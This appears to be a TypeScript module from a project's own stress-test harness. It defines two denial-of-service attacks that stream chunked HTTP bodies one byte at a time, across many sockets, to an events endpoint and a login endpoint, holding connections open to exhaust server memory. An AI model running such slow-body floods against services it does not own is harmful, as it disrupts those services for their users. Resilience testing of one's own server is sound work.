import { type Attack, countStatuses, createAssault, type Target } from './attack.ts'

/** One byte of a body, as a chunk on the wire. */
const chunk = '1\r\n \r\n'
const chunksAtOnce = 4096
const many = Buffer.from(chunk.repeat(chunksAtOnce))
const end = Buffer.from('0\r\n\r\n')
/** How long a body that lacks only its end keeps its memory, milliseconds. */
const holdMs = 1_500

/** Events whose body comes in chunks of one byte, by a user who is logged in. */
export const eventsInChunks: Attack = chunkedBody({
  head: ({ token }) =>
    `POST /events/de.org.hub.v1.radio.track.playing HTTP/1.1\r\nauthorization: Bearer ${token}`,
  bodyBytes: 400_000,
})

/** Log-ins in such chunks, by a stranger. The node reads 4 MiB of a too long body, so that its answer can be read. */
export const loginInChunks: Attack = chunkedBody({
  head: () => 'POST /auth/login HTTP/1.1',
  bodyBytes: 4 * 1024 * 1024,
})

function chunkedBody(of: { head: (target: Target) => string; bodyBytes: number }): Attack {
  return (target, force) => {
    const assault = createAssault(force)
    const fields = 'host: localhost\r\ncontent-type: application/json\r\ntransfer-encoding: chunked'
    const head = Buffer.from(`${of.head(target)}\r\n${fields}\r\n\r\n`)
    return assault.everywhere(async (worker) => {
      const socket = await assault.connect(target.httpsPort, worker)
      if (!socket) return
      let isAnswered = false
      countStatuses(socket, assault)
      socket.once('data', () => {
        isAnswered = true
      })
      let isGoing = await assault.write(socket, head)
      for (let sent = 0; isGoing && sent < of.bodyBytes && !isAnswered; sent += chunksAtOnce) {
        isGoing = await assault.write(socket, many)
        assault.seen.units += chunksAtOnce
      }
      if (isGoing && !isAnswered) {
        await assault.hold(socket, holdMs)
        if (await assault.write(socket, end)) await assault.hold(socket, 100)
      }
      assault.leave(socket)
    })
  }
}
